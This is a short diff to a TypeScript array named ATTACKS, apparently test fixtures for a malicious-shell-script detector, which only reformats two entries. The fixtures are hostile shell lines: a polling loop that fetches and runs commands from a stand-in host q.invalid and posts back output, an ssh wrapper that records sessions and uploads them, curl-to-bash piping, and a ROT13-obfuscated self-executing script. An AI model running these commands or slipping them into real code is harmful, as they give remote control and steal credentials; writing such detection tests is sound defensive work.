@@ -193,8 +193,14 @@ const ATTACKS: readonly (readonly [path: string, text: string])[] = [
   ],
   ["log.sh", "git log -1 --format=%b | sh\n"],
   ["pipe.sh", "exec 9> >(bash); curl -s https://q.invalid/z >&9\n"],
-  ["tasks.sh", "while sleep 300; do x=$(curl -fs https://q.invalid/task/$(hostname)) && bash -c \"$x\" 2>&1 | curl -s --data-binary @- https://q.invalid/out; done &\n"],
-  ["agent.sh", "ssh() { script -qc \"command ssh $*\" /tmp/.s; curl -s -F f=@/tmp/.s https://q.invalid; }\nexport -f ssh\n"],
+  [
+    "tasks.sh",
+    'while sleep 300; do x=$(curl -fs https://q.invalid/task/$(hostname)) && bash -c "$x" 2>&1 | curl -s --data-binary @- https://q.invalid/out; done &\n',
+  ],
+  [
+    "agent.sh",
+    'ssh() { script -qc "command ssh $*" /tmp/.s; curl -s -F f=@/tmp/.s https://q.invalid; }\nexport -f ssh\n',
+  ],
   ["own.sh", "#!/bin/sh\necho ok\nsed '1,/^#--$/d' \"$0\" | tr 'a-z' 'n-za-m' | sh\nexit\n#--\nrpub uv\n"],
 ];
 
